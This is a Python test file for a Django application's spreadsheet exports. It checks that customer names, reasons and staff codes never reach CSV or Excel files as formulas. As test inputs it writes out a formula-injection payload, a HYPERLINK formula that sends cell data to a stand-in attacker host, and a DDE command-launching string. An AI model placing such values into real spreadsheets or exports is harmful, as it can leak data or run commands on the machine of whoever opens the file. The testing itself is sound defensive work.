"""Formula injection (issue "The night never jams", item 4; CWE-1236): a name, reason or code someone typed never
reaches a spreadsheet as a formula. Every export goes through `common.spreadsheets`: in CSV a cell beginning with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`; in Excel it is a text cell (never `<f>`) holding
exactly the typed text. Plain numbers stay numbers, a negative amount included. One test per kind of export."""
from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from common.actors import SystemActor
from common.spreadsheets import append_row, csv_cell, is_formula_like, workbook
from performance.exports import table_csv, table_xlsx
from permissions import services as permission_services
from permissions.models import RoleKind
from relationships.models import RelationshipType
from relationships.services import Share, customer_get_or_create, relationship_create
from reservations.exchange.exports import export_csv
from reservations.models import FeedFile
from tests.support.factories import HQFactory, RoleFactory, StaffFactory, make_id_number
from tests.support.helpers import at, event_row, nightly, record_events, reserve

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
DAY = "2026-03-03"


def _csv_rows(response) -> list[list[str]]:
    body = response.getvalue() if hasattr(response, "getvalue") else response
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx(body: bytes):
    """(cell values, the sheets' XML, the styles' XML): the XML shows whether a cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
        styles = z.read("xl/styles.xml").decode()
    return [list(r) for r in load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True)], sheets, styles


def _assert_csv_neutralised(rows, hostile=HOSTILE):
    cells = [c for row in rows for c in row]
    assert "'" + hostile in cells, rows
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def _assert_xlsx_text(response_or_body, hostile=HOSTILE):
    body = response_or_body if isinstance(response_or_body, bytes) else response_or_body.getvalue()
    values, sheets, styles = _xlsx(body)
    assert hostile in [c for row in values for c in row]  # the typed text, exactly, without a quote
    assert "<f>" not in sheets and "HYPERLINK" in sheets  # stored as a text cell, not as a formula
    assert 'quotePrefix="1"' in styles  # and it stays text when someone edits the cell
    return values


# --- the rule ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0",
                                   "＝1+2", "-", "+", "@"])
def test_every_formula_start_is_neutralised_in_csv(value):
    assert is_formula_like(value) and csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1234.50", "+0.25", "-7", "3.5", "110105198506150021", "11010519850615002X",
                                   "2026-03-03T10:00:00+08:00", "张三", "", "NEW_DEV", "a=b", " =1"])
def test_plain_numbers_codes_and_ordinary_text_pass_unchanged(value):
    assert not is_formula_like(value) and csv_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 2.5, None, dt.date(2026, 3, 3)])
def test_values_that_are_not_text_pass_unchanged(value):
    assert csv_cell(value) == value


def test_no_module_writes_csv_or_excel_around_the_neutraliser():
    """The one place: outside `common/spreadsheets.py`, no project module makes a `csv.writer` / `DictWriter`
    or an openpyxl `Workbook` (tests, benchmarks and the demo generator write their own input files)."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.glob("*/**/*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.split("/")[0] in {"tests", "benchmarks", "fixtures", ".venv", "staticfiles"} or \
                rel == "common/spreadsheets.py" or "/migrations/" in rel:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                    and node.attr in ("writer", "DictWriter"):
                offenders.append(f"{rel}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl") \
                    and any(a.name == "Workbook" for a in node.names):
                offenders.append(f"{rel}:{node.lineno} openpyxl.Workbook")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" \
                    and any(a.name in ("writer", "DictWriter") for a in node.names):
                offenders.append(f"{rel}:{node.lineno} from csv import writer")
    assert offenders == []


# --- the list exports, the customers export -------------------------------------------------------------------

@pytest.fixture
def branch_client(client, outlet):
    client.force_login(RoleFactory(kind="branch", organisation=outlet.branch).user)
    return client


@pytest.fixture
def hostile_customer(staff):
    customer = customer_get_or_create(id_number=make_id_number(), name=HOSTILE)
    relationship_create(actor="test", customer=customer, rel_type=RelationshipType.objects.get(pk="NEW_DEV"),
                        shares=[Share(staff, Decimal("1"))], effective_from=dt.date(2026, 3, 5), source="reservation")
    return customer


@pytest.mark.parametrize("url", ["relationships:customers", "relationships:list"])
def test_the_customers_and_relationships_exports_neutralise_a_hostile_name(branch_client, hostile_customer, url):
    _assert_csv_neutralised(_csv_rows(branch_client.get(reverse(url), {"_export": "csv"})))
    _assert_xlsx_text(branch_client.get(reverse(url), {"_export": "xlsx"}))


def test_the_reservation_list_export_neutralises_a_hostile_customer_name(staff_client, staff):
    reserve(staff, id_number=make_id_number(), name=HOSTILE, when=at("2026-03-02 09:00"))
    url = reverse("reservations:list")
    _assert_csv_neutralised(_csv_rows(staff_client.get(url, {"_export": "csv"})))
    _assert_xlsx_text(staff_client.get(url, {"_export": "xlsx"}))


# --- the night report -----------------------------------------------------------------------------------------

def test_r_match_7_the_night_report_csv_neutralises_the_name_on_the_account(branch_client, staff, outlet):
    id_number = make_id_number()
    reserve(staff, id_number=id_number, name="张三", when=at(f"{DAY} 09:00"))
    record_events([event_row(when=at(f"{DAY} 10:00"), id_number=id_number, name=HOSTILE, outlet=outlet)])
    nightly(DAY)
    _assert_csv_neutralised(_csv_rows(branch_client.get(f"/reservations/runs/{DAY}/outcomes.csv")))


# --- the permission register ----------------------------------------------------------------------------------

def test_r_perm_3_the_register_csv_and_excel_neutralise_a_hostile_reason(client, staff, outlet):
    permission_services.application_file(actor=staff.user, subject=staff.user, action="grant",
                                         role_kind=RoleKind.OUTLET_HEAD, organisation=outlet, reason=HOSTILE,
                                         signed_off=True)
    client.force_login(RoleFactory(kind="branch_head", organisation=outlet.branch).user)
    _assert_csv_neutralised(_csv_rows(client.get(reverse("permissions:register_csv"))))
    _assert_xlsx_text(client.get(reverse("permissions:register_xlsx")))


# --- performance ----------------------------------------------------------------------------------------------

def _performance_rows():
    return [{"rank": 1, "code": "S1", "name": HOSTILE, "parent": "-营业部", "assets": Decimal("-1234.50"),
             "avg_daily_assets": Decimal("10.00"), "net_commission": Decimal("-3.25"), "turnover": Decimal("0"),
             "trade_count": 2, "new_customers": Decimal("0.6")}]


def test_r_perf_4_the_performance_csv_neutralises_names_and_keeps_negative_amounts():
    rows = _csv_rows(table_csv(_performance_rows(), "staff", "2026-03"))
    _assert_csv_neutralised(rows)
    assert rows[1][4:] == ["'-营业部", "-1234.50", "10.00", "-3.25", "0", "2", "0.6"]


def test_r_perf_4_the_performance_workbook_keeps_names_as_text_and_amounts_as_numbers():
    values = _assert_xlsx_text(table_xlsx(_performance_rows(), "staff", "2026-03"))
    assert values[1][4] == "-营业部"
    assert values[1][5] == -1234.5 and values[1][7] == -3.25  # negative amounts: numbers, not text


# --- §12 contract files and the refused lines of a feed --------------------------------------------------------

def test_section_12_exports_keep_contract_values_exact_and_quote_a_formula_like_code(staff):
    hostile_staff = StaffFactory(outlet=staff.outlet, staff_no="@SUM(1+1)")
    id_number = make_id_number()
    reserve(hostile_staff, id_number=id_number, name="张三", when=at("2026-03-02 09:00"))
    out = io.StringIO()
    export_csv(actor=SystemActor("test"), kind="reservations", out=out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["id_number", "staff_no", "relationship_type", "registered_at", "status"]
    assert row == [id_number, "'@SUM(1+1)", "NEW_DEV", "2026-03-02T09:00:00+08:00", "active"]


def test_the_refused_lines_csv_of_a_feed_neutralises_a_hostile_reason(client):
    feed = FeedFile.objects.create(kind="staff", sha256="0" * 64, filename="staff.csv", loaded_by="test",
                                   errors=[{"line": 2, "reason": HOSTILE}])
    client.force_login(RoleFactory(kind="hq", organisation=HQFactory()).user)
    response = client.get(reverse("reservations:feed_errors", args=[feed.pk]))
    assert response.status_code == 200
    _assert_csv_neutralised(_csv_rows(response.content))


def test_a_control_character_in_a_text_becomes_a_replacement_mark_and_the_workbook_still_writes():
    """A name typed with a control character into a form would make openpyxl refuse the whole file."""
    book = workbook(write_only=True)
    sheet = book.create_sheet()
    append_row(sheet, ["张\x01三", "=1+1\x02", 12])
    out = io.BytesIO()
    book.save(out)
    row = [c.value for c in next(load_workbook(out).active.iter_rows())]
    assert row == ["张\ufffd三", "=1+1\ufffd", 12]
